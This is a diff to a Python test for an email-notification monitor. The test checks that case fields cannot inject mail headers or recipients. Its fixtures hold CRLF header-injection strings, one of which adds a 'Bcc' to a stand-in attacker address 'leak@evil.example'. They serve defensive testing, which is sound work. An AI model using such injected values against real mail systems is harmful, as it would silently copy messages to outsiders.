@@ -309,11 +309,21 @@ def test_case_fields_cannot_inject_headers_or_recipients(
     server.start()
     evil_department = "市市场监督管理局\r\nBcc: leak@evil.example\r\nX-Injected: dept"
     evil_case = "C1\r\nX-Injected: case\n\nbody"
-    h.load(
-        item(department=evil_department),
-        case(evil_case, department=evil_department),
-        event(evil_case, "accepted", "2026-11-03 09:00"),
-    )
+    # The importer refuses such values now; a platform's own views may still hold them.
+    from monitor.source.importer import import_records
+    from monitor.source.records import CaseRecord, EventRecord, ItemRecord
+
+    raw = [
+        ItemRecord.model_validate(item()).model_copy(update={"department": evil_department}),
+        CaseRecord.model_validate(case("C1")).model_copy(
+            update={"case_id": evil_case, "department": evil_department}
+        ),
+        EventRecord.model_validate(event("C1", "accepted", "2026-11-03 09:00")).model_copy(
+            update={"case_id": evil_case}
+        ),
+    ]
+    report = import_records(h.app.source, [(f"raw:{i}", r) for i, r in enumerate(raw)], T0)
+    assert not report.errors
     h.poll(T0)
     result = drain(h.app.state, notifier(h, client_tls), h.config.notify, T0)
     assert result.sent == 2
